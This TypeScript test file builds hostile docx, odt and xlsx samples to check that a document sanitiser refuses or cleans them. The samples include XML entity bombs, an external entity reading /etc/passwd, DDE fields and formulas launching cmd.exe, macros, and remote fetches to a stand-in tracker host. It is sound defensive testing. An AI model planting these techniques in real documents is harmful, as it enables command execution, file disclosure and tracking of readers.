import { compound } from '../make/compound.ts'
import { type Part, baseText, docx, drawing, paragraph, run, wordPart } from '../make/docx.ts'
import { frame, odt } from '../make/odt.ts'
import { png } from '../make/pictures.ts'
import { firstSheet, sheetPart, sheetText, sheetType, xlsx } from '../make/xlsx.ts'
import type { Entry } from '../make/zip.ts'
import { type HostileCase, harmless, held, refused } from './case.ts'

const mark = 'Zzqx-hostile-7f3a'
const tracker = 'https://tracker.example/Zzqx-hostile-7f3a'
const office = 'http://schemas.microsoft.com/office/2006/relationships'
const field = (code: string, result = 'As shown.') =>
  paragraph(
    `<w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> ${code} </w:instrText></w:r><w:r><w:fldChar w:fldCharType="separate"/></w:r>${run(result)}<w:r><w:fldChar w:fldCharType="end"/></w:r>`,
  )
const textIs = (...lines: readonly string[]) => ({ text: [...baseText, ...lines] })
const gone = (...more: readonly string[]) => ({ gone: [mark, ...more] })

const changed = (name: string, change: (text: string) => string | Buffer) => (entries: readonly Entry[]) =>
  entries.map((entry) => (entry.name === name ? { ...entry, bytes: change(String(entry.bytes)) } : entry))
const doctype = (inside: string) => (xml: string) => xml.replace(/^(<\?xml[^>]*>\s*)?/, `$1<!DOCTYPE x [${inside}]>`)
const laughs =
  '<!ENTITY a "haha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;"><!ENTITY d "&c;&c;&c;&c;&c;&c;&c;&c;">'
const outside = '<!ENTITY x SYSTEM "file:///etc/passwd">'
const utf16 = (xml: string) =>
  Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(xml.replace('UTF-8', 'UTF-16'), 'utf16le')])
const vba: Part = {
  name: 'word/vbaProject.bin',
  bytes: compound([{ name: 'PROJECT', bytes: Buffer.from(`Name="${mark}"`) }]),
  type: 'application/vnd.ms-office.vbaProject',
  rel: `${office}/vbaProject`,
}
const ole: Part = {
  name: 'word/embeddings/oleObject1.bin',
  bytes: compound([{ name: '\u0001Ole10Native', bytes: Buffer.from(`${mark}.exe`) }]),
  rel: 'oleObject',
  id: 'rIdOle',
}
const embedded = paragraph(
  '<w:r><w:object><v:shape id="o1" style="width:9pt;height:9pt" o:ole=""/><o:OLEObject Type="Embed" ProgID="Package" ShapeID="o1" DrawAspect="Icon" r:id="rIdOle"/></w:object></w:r>',
)
const macroEnabled = 'application/vnd.ms-word.document.macroEnabled.main+xml'

export const markupAttacks: readonly HostileCase[] = [
  refused('docx', 'billion laughs in the text', 'dtd', () =>
    docx({ entries: changed('word/document.xml', doctype(laughs)) }),
  ),
  refused('docx', 'external entity in the text', 'dtd', () =>
    docx({ entries: changed('word/document.xml', (xml) => doctype(outside)(xml).replace('Eleven', '&x; Eleven')) }),
  ),
  refused('docx', 'external entity in the styles', 'dtd', () =>
    docx({ entries: changed('word/styles.xml', doctype(outside)) }),
  ),
  refused('docx', 'external entity in the list of types', 'dtd', () =>
    docx({ entries: changed('[Content_Types].xml', doctype(outside)) }),
  ),
  refused('docx', 'external entity in the relationships', 'dtd', () =>
    docx({ entries: changed('_rels/.rels', doctype(outside)) }),
  ),
  refused('docx', 'document type in UTF-16', 'dtd', () =>
    docx({ entries: changed('word/document.xml', (xml) => utf16(doctype(laughs)(xml))) }),
  ),
  refused('docx', 'document type behind ten kilobytes of comment', 'dtd', () =>
    docx({
      entries: changed('word/document.xml', (xml) =>
        doctype(outside)(xml).replace('<!DOCTYPE', `<!-- ${'x'.repeat(10_000)} --><!DOCTYPE`),
      ),
    }),
  ),
  refused('docx', 'document type in UTF-7', 'damaged', () =>
    docx({
      entries: changed('word/document.xml', (xml) =>
        xml.replace('UTF-8', 'UTF-7').replace('<w:body>', '<w:body>+ADwAIQ-DOCTYPE x+AD4-'),
      ),
    }),
  ),
  refused('odt', 'billion laughs in a text document', 'dtd', () => odt({ prolog: `<!DOCTYPE x [${laughs}]>` })),
  refused('odt', 'external entity in the manifest', 'dtd', () =>
    odt({ entries: changed('META-INF/manifest.xml', doctype(outside)) }),
  ),
  refused('xlsx', 'billion laughs in the strings', 'dtd', () =>
    xlsx({ entries: changed('xl/sharedStrings.xml', doctype(laughs)) }),
  ),
  harmless('docx', 'text in UTF-16, which is allowed', { gone: [], ...textIs() }, () =>
    docx({ entries: changed('word/document.xml', utf16) }),
  ),
  refused('docx', 'markup that does not end', 'damaged', () =>
    docx({ entries: changed('word/document.xml', (xml) => xml.slice(0, -30)) }),
  ),
  refused('docx', 'markup fifty thousand deep', 'damaged', () =>
    docx({ body: `${'<w:sdt><w:sdtContent>'.repeat(25_000)}${'</w:sdtContent></w:sdt>'.repeat(25_000)}` }),
  ),
]

export const activeAttacks: readonly HostileCase[] = [
  harmless('docx', 'macros', { ...gone('vbaProject'), removed: ['macros'], ...textIs() }, () => docx({ parts: [vba] })),
  harmless(
    'docx',
    'macros in a document that says so',
    { ...gone('vbaProject', 'macroEnabled'), removed: ['macros'], ...textIs() },
    () => docx({ parts: [vba], mainType: macroEnabled }),
  ),
  harmless(
    'docx',
    'template from another machine',
    { ...gone('tracker.example'), removed: ['external_links'], ...textIs() },
    () =>
      docx({
        settings: '<w:attachedTemplate r:id="rIdT"/>',
        links: [{ rel: 'attachedTemplate', target: `${tracker}.dotm`, id: 'rIdT', from: 'word/settings.xml' }],
      }),
  ),
  harmless(
    'docx',
    'field that starts a program',
    { ...gone('DDEAUTO'), removed: ['dde_fields'], ...textIs('As shown.') },
    () => docx({ body: field(`DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k ${mark}"`) }),
  ),
  harmless(
    'docx',
    'field that starts a program, in pieces',
    { gone: [mark], removed: ['dde_fields'], ...textIs('As shown.') },
    () => docx({ body: field(`DDE</w:instrText></w:r><w:r><w:instrText>AUTO cmd "${mark}"`) }),
  ),
  harmless('docx', 'field that starts a program, inside another', { ...gone('DDEAUTO'), removed: ['dde_fields'] }, () =>
    docx({
      body: field(
        `QUOTE </w:instrText></w:r><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> DDEAUTO cmd "${mark}" </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r><w:r><w:instrText>`,
      ),
    }),
  ),
  harmless(
    'docx',
    'field that starts a program, simple',
    { ...gone('DDE'), removed: ['dde_fields'], ...textIs('As shown.') },
    () =>
      docx({ body: paragraph(`<w:fldSimple w:instr="DDE cmd &quot;${mark}&quot;">${run('As shown.')}</w:fldSimple>`) }),
  ),
  harmless('docx', 'field that fetches a picture', { ...gone('tracker.example'), removed: ['external_links'] }, () =>
    docx({ body: field(`INCLUDEPICTURE "${tracker}.png" \\d`) }),
  ),
  harmless(
    'docx',
    'picture that is fetched',
    { ...gone('tracker.example'), removed: ['external_links'], ...textIs() },
    () =>
      docx({
        body: paragraph(drawing('rIdX', undefined, 'r:link')),
        links: [{ rel: 'image', target: `${tracker}.png`, id: 'rIdX' }],
      }),
  ),
  harmless('docx', 'old picture that is fetched', { ...gone('tracker.example'), ...textIs() }, () =>
    docx({
      body: paragraph(
        `<w:r><w:pict><v:shape id="s" style="width:9pt;height:9pt"><v:imagedata src="${tracker}.png"/><v:fill r:id="rIdX" o:href="${tracker}.png" type="frame"/></v:shape></w:pict></w:r>`,
      ),
      links: [{ rel: 'image', target: `${tracker}.png`, id: 'rIdX' }],
    }),
  ),
  harmless(
    'docx',
    'object with a program in it',
    { ...gone('Ole10Native'), removed: ['embedded_objects'], ...textIs() },
    () => docx({ body: embedded, parts: [ole] }),
  ),
  harmless('docx', 'object that is fetched', { ...gone('tracker.example'), removed: ['external_links'] }, () =>
    docx({
      body: embedded.replace('Type="Embed"', 'Type="Link" UpdateMode="Always"'),
      links: [{ rel: 'oleObject', target: `${tracker}.doc`, id: 'rIdOle' }],
    }),
  ),
  harmless('docx', 'control of ActiveX', { ...gone('activeX'), ...textIs() }, () =>
    docx({
      body: paragraph('<w:r><w:object><w:control r:id="rIdControl" w:name="C" w:shapeid="o1"/></w:object></w:r>'),
      parts: [
        {
          name: 'word/activeX/activeX1.xml',
          bytes: `<ax:ocx xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" ax:classid="{D27CDB6E-AE6D-11cf-96B8-444553540000}" ax:license="${mark}"/>`,
          type: 'application/vnd.ms-office.activeX+xml',
          rel: 'control',
          id: 'rIdControl',
        },
      ],
    }),
  ),
  held('docx', 'web page as a chunk', 'cannot_be_cleaned', () =>
    docx({
      body: '<w:altChunk r:id="rIdChunk"/>',
      parts: [
        {
          name: 'word/chunk.txt',
          bytes: `<html><script>${mark}</script></html>`,
          type: 'text/html',
          rel: 'aFChunk',
          id: 'rIdChunk',
        },
      ],
    }),
  ),
  harmless('docx', 'chapter from another machine', { ...gone('tracker.example'), ...textIs() }, () =>
    docx({
      body: paragraph('<w:subDoc r:id="rIdSub"/>'),
      links: [{ rel: 'subDocument', target: `${tracker}.docx`, id: 'rIdSub' }],
    }),
  ),
  harmless('docx', 'frame from another machine', { ...gone('tracker.example'), ...textIs() }, () =>
    docx({
      parts: [
        {
          name: 'word/webSettings.xml',
          bytes: wordPart(
            'webSettings',
            '<w:frameset><w:frame><w:sourceFileName r:id="rIdFrame"/></w:frame></w:frameset>',
          ),
          rel: 'webSettings',
        },
      ],
      links: [{ rel: 'frame', target: tracker, id: 'rIdFrame', from: 'word/webSettings.xml' }],
    }),
  ),
  harmless('docx', 'link that runs a script', { ...gone('javascript:'), ...textIs('the form') }, () =>
    docx({
      body: paragraph(`<w:hyperlink r:id="rIdL">${run('the form')}</w:hyperlink>`),
      links: [{ rel: 'hyperlink', target: `javascript:${mark}`, id: 'rIdL' }],
    }),
  ),
  harmless('docx', 'picture that opens something when it is clicked', { ...gone('ms-officecmd'), ...textIs() }, () =>
    docx({
      body: paragraph(
        drawing('rIdF')
          .replaceAll('name="Figure"/>', 'name="Figure"><a:hlinkClick r:id="rIdL"/></pic:cNvPr>')
          .replace('</pic:cNvPr>', '</wp:docPr>'),
      ),
      parts: [{ name: 'word/media/image1.png', bytes: png(), rel: 'image', id: 'rIdF' }],
      links: [{ rel: 'hyperlink', target: `ms-officecmd:${mark}`, id: 'rIdL' }],
    }),
  ),
  harmless('docx', 'picture that is no picture', { gone: [mark, '<?php'], removed: ['pictures_not_cleanable'] }, () =>
    docx({
      body: paragraph(drawing('rIdF')),
      parts: [{ name: 'word/media/image1.png', bytes: `<?php ${mark} ?>`, rel: 'image', id: 'rIdF' }],
    }),
  ),
  harmless('odt', 'text document with a macro', { ...gone('Basic/'), removed: ['macros'], ...textIs() }, () =>
    odt({
      parts: [
        { name: 'Basic/Standard/Module1.xml', bytes: `<x>${mark}</x>`, type: 'text/xml' },
        { name: 'Basic/script-lc.xml', bytes: '<x/>', type: 'text/xml' },
      ],
    }),
  ),
  harmless('odt', 'event that runs a macro', { ...gone('event-listener'), ...textIs() }, () =>
    odt({
      scripts: `<office:scripts><office:event-listeners><script:event-listener script:language="ooo:script" script:event-name="dom:load" xlink:href="vnd.sun.star.script:${mark}?language=Basic"/></office:event-listeners></office:scripts>`,
    }),
  ),
  harmless(
    'odt',
    'picture that is fetched by a text document',
    { ...gone('tracker.example'), removed: ['external_links'], ...textIs() },
    () => odt({ body: frame(`${tracker}.png`) }),
  ),
  harmless('odt', 'background that is fetched', { ...gone('tracker.example'), ...textIs() }, () =>
    odt({
      automaticStyles: `<style:style style:name="P1" style:family="paragraph"><style:paragraph-properties><style:background-image xlink:href="${tracker}.png" xlink:type="simple"/></style:paragraph-properties></style:style>`,
    }),
  ),
  harmless('odt', 'section that is fetched', { ...gone('tracker.example'), ...textIs('Included.') }, () =>
    odt({
      body: `<text:section text:name="S"><text:section-source xlink:href="${tracker}.odt"/><text:p>Included.</text:p></text:section>`,
    }),
  ),
  harmless('odt', 'connection that starts a program', { gone: [mark, 'dde'], ...textIs() }, () =>
    odt({
      prelude: `<text:dde-connection-decls><text:dde-connection-decl office:name="d" office:dde-application="soffice" office:dde-topic="${mark}" office:dde-item="x" office:automatic-update="true"/></text:dde-connection-decls>`,
    }),
  ),
  harmless('odt', 'plug-in and applet', { gone: [mark, 'draw:plugin', 'draw:applet'] }, () =>
    odt({
      body: `<text:p><draw:frame svg:width="1cm" svg:height="1cm"><draw:plugin xlink:href="${tracker}" draw:mime-type="x/y"/></draw:frame><draw:frame svg:width="1cm" svg:height="1cm"><draw:applet draw:code="${mark}" xlink:href="${tracker}"/></draw:frame></text:p>`,
    }),
  ),
  harmless('odt', 'form that sends what is written', { ...gone('tracker.example') }, () =>
    odt({
      prelude: `<office:forms form:automatic-focus="false"><form:form form:name="f" xlink:href="${tracker}" form:method="post"/></office:forms>`,
    }),
  ),
  harmless('xlsx', 'formula that starts a program', { gone: [mark, 'cmd|'], text: [...sheetText, '1'] }, () =>
    xlsx({ rows: `<row r="3"><c r="A3"><f>cmd|'/c ${mark}'!A0</f><v>1</v></c></row>` }),
  ),
  harmless('xlsx', 'formula that fetches', { gone: [mark, 'tracker.example'], text: [...sheetText, 'ok'] }, () =>
    xlsx({ rows: `<row r="3"><c r="A3" t="str"><f>WEBSERVICE("${tracker}")</f><v>ok</v></c></row>` }),
  ),
  harmless('xlsx', 'link that is a formula', { gone: [mark], text: [...sheetText, 'the form'] }, () =>
    xlsx({
      rows: `<row r="3"><c r="A3" t="str"><f>HYPERLINK("file:///C:/${mark}.exe","the form")</f><v>the form</v></c></row>`,
    }),
  ),
  harmless(
    'xlsx',
    'sheet of Excel 4 macros',
    { gone: [mark, 'macrosheet'], removed: ['macros'], text: sheetText },
    () =>
      xlsx({
        sheets: '<sheet name="M" sheetId="2" state="veryHidden" r:id="rIdM"/>',
        parts: [
          {
            name: 'xl/macrosheets/sheet1.xml',
            bytes: sheetPart(
              'xm:macrosheet',
              `<sheetData><row r="1"><c r="A1"><f>EXEC("${mark}")</f></c></row></sheetData>`,
              'xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"',
            ),
            type: 'application/vnd.ms-excel.macrosheet+xml',
            rel: `${office}/xlMacrosheet`,
            id: 'rIdM',
          },
        ],
      }),
  ),
  harmless('xlsx', 'macros in a workbook', { ...gone('vbaProject'), removed: ['macros'], text: sheetText }, () =>
    xlsx({ parts: [{ ...vba, name: 'xl/vbaProject.bin' }] }),
  ),
  harmless('xlsx', 'object in a sheet', { ...gone('oleObject'), removed: ['embedded_objects'], text: sheetText }, () =>
    xlsx({
      sheet: '<oleObjects><oleObject progId="Package" shapeId="1" r:id="rIdOle"/></oleObjects>',
      parts: [{ ...ole, name: 'xl/embeddings/oleObject1.bin', from: firstSheet }],
    }),
  ),
  harmless('xlsx', 'query that fetches', { gone: [mark, 'tracker.example'], text: sheetText }, () =>
    xlsx({
      parts: [
        {
          name: 'xl/queryTables/queryTable1.xml',
          bytes: sheetPart('queryTable', '', `name="${mark}" connectionId="1"`),
          type: sheetType('queryTable'),
          rel: 'queryTable',
          from: firstSheet,
        },
        {
          name: 'xl/connections.xml',
          bytes: sheetPart(
            'connections',
            `<connection id="1" name="q" type="4" refreshedVersion="6"><webPr url="${tracker}"/></connection>`,
          ),
          type: sheetType('connections'),
          rel: 'connections',
        },
      ],
    }),
  ),
]
